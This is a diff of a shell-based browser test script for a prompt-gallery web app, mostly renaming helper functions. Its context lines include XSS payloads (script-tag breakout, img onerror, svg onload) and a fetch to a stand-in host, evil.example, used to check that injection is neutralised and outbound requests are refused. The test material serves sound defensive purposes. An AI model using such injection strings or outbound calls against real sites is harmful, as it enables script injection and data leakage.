@@ -68,11 +68,11 @@ is "$(run 'new Promise(r => { const i = new Image(); i.onerror = () => r("refuse
 is "$(run 'fetch("http://evil.example/").then(() => "sent", () => "refused")')" refused 'as is anything else'
 run 'document.querySelectorAll(".tile")[1].click()' >/dev/null
 says '</script><script>window.hit = 1</script><img src=x onerror="window.hit = 1"><svg onload="window.hit=1">' \
-	'document.querySelector("#detail[open]") && (byId("prompt").textContent.includes("pose") && moveTo(current ? 0 : 1), byId("prompt").textContent)' \
+	'document.querySelector("#detail[open]") && (byId("prompt").textContent.includes("pose") && goTo(current ? 0 : 1), byId("prompt").textContent)' \
 	'the prompt is shown as it was written'
 shot hostile
 keys Escape
-run 'moveTo(shown.findIndex(i => i.name.includes("#1"))), open(current)' >/dev/null
+run 'goTo(shown.findIndex(i => i.name.includes("#1"))), openAt(current)' >/dev/null
 says '1. https://evil.example/pose.png' 'byId("refs").textContent' 'a reference from a network is named'
 is "$(run 'byId("refs").querySelectorAll("img, a").length')" 0 'and neither shown nor linked'
 keys Escape
@@ -158,7 +158,7 @@ run 'filter.value = "garden", filterChanged(), scrollTo(0, 120)' >/dev/null
 at=$(run '[filter.value, shown.length, scrollY, current, data.made].join()')
 keys r
 says "${at%,*}" '[filter.value, shown.length, scrollY, current].join()' 'reloaded, it is where it was'
-run 'filter.value = "", filterChanged(), open(1), window.old = true' >/dev/null
+run 'filter.value = "", filterChanged(), openAt(1), window.old = true' >/dev/null
 control POST release >/dev/null
 ok 'what was under way is made' completed garden/slow.txt
 sleep 8
